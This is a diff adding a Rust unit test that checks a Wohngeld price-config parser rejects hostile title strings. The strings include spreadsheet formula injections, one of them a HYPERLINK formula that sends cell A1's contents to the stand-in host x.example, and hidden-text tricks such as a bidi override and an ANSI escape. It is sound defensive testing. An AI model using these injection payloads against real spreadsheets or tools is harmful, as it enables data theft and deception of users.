@@ -94,6 +94,32 @@ cents = 240_000
         }
     }
 
+    #[test]
+    fn titles_that_act_or_hide_are_refused_with_their_line() {
+        for (title, said) in [
+            (r#"=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")"#, "TEXT_IS_FORMULA"),
+            ("-2+3+cmd", "TEXT_IS_FORMULA"),
+            ("@SUM(1+1)", "TEXT_IS_FORMULA"),
+            (r"\nabc", "TEXT_HIDES"),
+            ("Wohngeld \u{202e}gnubegnarebeis\u{202c}, ab 0,00 €", "TEXT_HIDES"),
+            (r"\u001b[31mrot", "TEXT_HIDES"),
+            ("Wohngeld ", "TEXT_MISSHAPED"),
+            ("", "FIELD_INVALID"),
+        ] {
+            let text = GOOD.replace("title = \"Wohngeld\"", &format!("title = \"{title}\""));
+            let document = Document::of(Path::new("a.toml"), text);
+            let refusal = refused(understood(&document), Reason::ConfigInvalid, "a.toml:4");
+            assert!(refusal.details().contains(said), "{title}: {refusal}");
+            assert!(!refusal.details().contains(['\u{202e}', '\u{1b}', '\n']), "{title}: {refusal}");
+        }
+        for other in
+            ["valid_from = \"20240101\"", "valid_from = 2024-01-01T00:00:00Z", "valid_from = \"+002024-01-01\""]
+        {
+            let document = Document::of(Path::new("a.toml"), GOOD.replace("valid_from = \"2024-01-01\"", other));
+            refused(understood(&document), Reason::ConfigInvalid, "a.toml:13");
+        }
+    }
+
     const SHARED: &str = r#"
 [[price.terms.split]]
 share = 10_000
